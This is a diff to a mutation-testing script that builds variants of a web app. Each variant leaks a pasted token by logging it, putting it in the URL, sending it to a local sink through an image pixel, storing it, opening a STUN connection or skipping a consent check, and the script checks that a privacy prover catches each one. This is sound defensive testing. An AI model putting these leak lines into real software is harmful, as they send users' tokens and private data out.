@@ -1,6 +1,6 @@
 /**
- * Shows that the privacy prover can fail: six variants of the source that leak what is pasted, each built and put before
- * it; and the pixel without the page's policy, so that the sink is seen to count what reaches it.
+ * Shows that the privacy prover can fail: variants of the source that leak what is pasted or written, each built and put
+ * before it; and the pixel without the page's policy, so that the sink is seen to count what reaches it.
  */
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -10,36 +10,59 @@ import { serve } from './serve.mjs';
 
 const SINK = 'localhost:4891';
 const PORT = 4881;
-/** Where a pasted token arrives. */
-const PLACE = { file: '/src/state/token-actions.ts', before: '      void inspect();\n    },\n    editContext' };
 
+/** Where a pasted token arrives, and the feature that pastes one. */
+const PASTED = {
+  file: '/src/state/token-actions.ts',
+  place: '      void inspect();\n    },\n    editContext',
+  spec: 'privacy.spec.ts',
+  feature: 'tokens of every kind',
+};
+const whenPasted = (code) => ({ ...PASTED, instead: `${code}\n${PASTED.place}` });
+const PIXEL = whenPasted(`new Image().src = \`http://${SINK}/pixel?\${get().token.text.slice(0, 40)}\`;`);
+
+/** In `file` stands `instead` where `place` was; the test called `feature` uses it. */
 const MUTANTS = {
-  'logs the token': 'console.log(get().token.text);',
-  'puts the token into the link': 'location.hash = `#/token?t=${get().token.text}`;',
-  'fetches a pixel': `new Image().src = \`http://${SINK}/pixel?\${get().token.text.slice(0, 40)}\`;`,
-  'stores the token': "sessionStorage.setItem('last', get().token.text);",
-  'writes the token into the title': 'document.title = get().token.text;',
-  'opens a STUN connection': `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:4891' }] });
+  'logs the token': whenPasted('console.log(get().token.text);'),
+  'puts the token into the link': whenPasted('location.hash = `#/token?t=${get().token.text}`;'),
+  'fetches a pixel': PIXEL,
+  'stores the token': whenPasted("sessionStorage.setItem('last', get().token.text);"),
+  'writes the token into the title': whenPasted('document.title = get().token.text;'),
+  'opens a STUN connection':
+    whenPasted(`const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:4891' }] });
     peer.createDataChannel('x');
-    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
+    void peer.createOffer().then((offer) => peer.setLocalDescription(offer));`),
+  'keeps what may not be kept': {
+    file: '/src/state/workspace-of.ts',
+    place: "hasDiagram && (await mayBeKept({ kind: 'writing', text: diagramSource }))",
+    instead: 'hasDiagram',
+    spec: 'privacy-companion.spec.ts',
+    feature: 'work is kept, comes back',
+  },
+  'reports a doubt with the token': {
+    file: '/src/features/fact-report/fact-report.tsx',
+    place: 'stepLink(state, state.players.flow.index)',
+    instead: '`#/token?t=${state.token.text}`',
+    spec: 'privacy-companion.spec.ts',
+    feature: 'a doubted verdict',
+  },
 };
 const TRUST = ['foreign', 'late', 'sink', 'leaks', 'violations', 'clipboard', 'peers'];
-const FIRST_FEATURE = 'tokens of every kind';
 
-function mutate(code) {
+function mutate({ file, place, instead }) {
   let done = false;
   return {
     name: 'mutant',
     enforce: 'pre',
     applyToEnvironment: ({ name }) => name === 'client',
     transform(source, id) {
-      if (!id.endsWith(PLACE.file)) return undefined;
-      if (!source.includes(PLACE.before)) throw new Error(`${PLACE.file} has changed: the mutants have no place in it`);
+      if (!id.endsWith(file)) return undefined;
+      if (!source.includes(place)) throw new Error(`${file} has changed: the mutants have no place in it`);
       done = true;
-      return source.replace(PLACE.before, `${code}\n${PLACE.before}`);
+      return source.replace(place, () => instead);
     },
     buildEnd() {
-      if (!done) throw new Error(`${PLACE.file} was not built`);
+      if (!done) throw new Error(`${file} was not built`);
     },
   };
 }
@@ -52,15 +75,15 @@ function removePolicy(outDir) {
 }
 
 /** What the prover finds in a variant of the app. */
-async function tryVariant(context, number, code, { withPolicy = true } = {}) {
+async function tryVariant(context, number, mutant, { withPolicy = true } = {}) {
   const outDir = join(context.folder, `mutant-${number}`);
-  await buildApp({ plugins: [mutate(code)], build: { outDir, emptyOutDir: true } });
+  await buildApp({ plugins: [mutate(mutant)], build: { outDir, emptyOutDir: true } });
   if (!withPolicy) removePolicy(outDir);
   const server = await serve(outDir, PORT, { withHeaders: withPolicy });
   try {
     const { address } = server;
     const figures = figuresOf(
-      await runProof({ ...context, address }, 'privacy.spec.ts', { grep: FIRST_FEATURE, quiet: true }),
+      await runProof({ ...context, address }, mutant.spec, { grep: mutant.feature, quiet: true }),
     );
     if (figures.sink === undefined) throw new Error('a variant was not watched to its end');
     return figures;
@@ -71,12 +94,12 @@ async function tryVariant(context, number, code, { withPolicy = true } = {}) {
 
 export async function provePrivacyMutants(context) {
   let red = 0;
-  for (const [index, [name, code]] of Object.entries(MUTANTS).entries()) {
-    const figures = await tryVariant(context, index, code);
+  for (const [index, [name, mutant]] of Object.entries(MUTANTS).entries()) {
+    const figures = await tryVariant(context, index, mutant);
     const found = TRUST.filter((id) => figures[id] > 0);
     console.log(`${found.length > 0 ? 'found ' : 'MISSED'} ${name}: ${found.join(', ')}`);
     if (found.length > 0) red += 1;
   }
-  const open = await tryVariant(context, 'open', MUTANTS['fetches a pixel'], { withPolicy: false });
+  const open = await tryVariant(context, 'open', PIXEL, { withPolicy: false });
   return { red: { value: red, note: `of ${Object.keys(MUTANTS).length}` }, 'open-policy': open.sink };
 }
